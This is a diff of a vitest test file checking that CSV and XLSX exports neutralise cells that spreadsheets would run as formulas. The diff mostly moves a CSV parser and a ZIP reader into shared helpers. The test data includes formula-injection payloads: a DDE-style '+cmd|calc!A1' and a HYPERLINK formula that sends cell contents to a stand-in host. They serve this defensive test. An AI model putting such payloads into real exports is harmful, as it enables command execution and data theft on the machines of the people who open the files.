@@ -1,7 +1,8 @@
-import { inflateRawSync } from 'node:zlib';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { BASE, createEvent, event, get, uniqueCompanyId } from '../../helpers/app';
+import { parseCsv } from '../../helpers/csv.mjs';
 import { query } from '../../helpers/sql';
+import { zipEntryText } from '../../helpers/xlsx';
 
 /**
  * Issue 13.1: a CSV cell that starts with =, +, -, @, tab or CR runs as a formula when support
@@ -17,35 +18,6 @@ const HOSTILE = {
   companyName: '+cmd|calc!A1',
   storeName: '-2+3',
 };
-
-/** RFC 4180 reader (quoted fields may hold commas, quotes and line breaks). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let field = '';
-  let row: string[] = [];
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += ch;
-  }
-  return rows;
-}
 
 async function csvRows(extra: Record<string, string> = {}): Promise<string[][]> {
   const qs = new URLSearchParams({ company_id: String(company), format: 'csv', ...extra });
@@ -114,31 +86,8 @@ describe('CSV export guards cells that would run as formulas (issue 13.1)', () =
   it('xlsx keeps the text as is, in inline string cells that spreadsheets never evaluate', async () => {
     const response = await get(`${BASE}/export?company_id=${company}`);
     expect(response.status).toBe(200);
-    const sheet = zipEntry(new Uint8Array(await response.arrayBuffer()), 'xl/worksheets/sheet1.xml');
+    const sheet = zipEntryText(new Uint8Array(await response.arrayBuffer()), 'xl/worksheets/sheet1.xml');
     expect(sheet).not.toContain('<f>');
     expect(sheet).toContain('t="inlineStr"><is><t>=HYPERLINK("https://x/?"&amp;A2,"open")</t>');
   });
 });
-
-/** One deflated file of a ZIP archive, found through its local header (the writer streams entries). */
-function zipEntry(zip: Uint8Array, name: string): string {
-  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
-  // Central directory: end record at the end (no comment), entries point at local headers.
-  const end = zip.byteLength - 22;
-  let at = view.getUint32(end + 16, true);
-  const count = view.getUint16(end + 10, true);
-  for (let i = 0; i < count; i++) {
-    const size = view.getUint32(at + 20, true);
-    const nameLength = view.getUint16(at + 28, true);
-    const extra = view.getUint16(at + 30, true);
-    const comment = view.getUint16(at + 32, true);
-    const local = view.getUint32(at + 42, true);
-    const entryName = new TextDecoder().decode(zip.subarray(at + 46, at + 46 + nameLength));
-    if (entryName === name) {
-      const dataStart = local + 30 + view.getUint16(local + 26, true) + view.getUint16(local + 28, true);
-      return new TextDecoder().decode(inflateRawSync(zip.subarray(dataStart, dataStart + size)));
-    }
-    at += 46 + nameLength + extra + comment;
-  }
-  throw new Error(`${name} not in the archive`);
-}
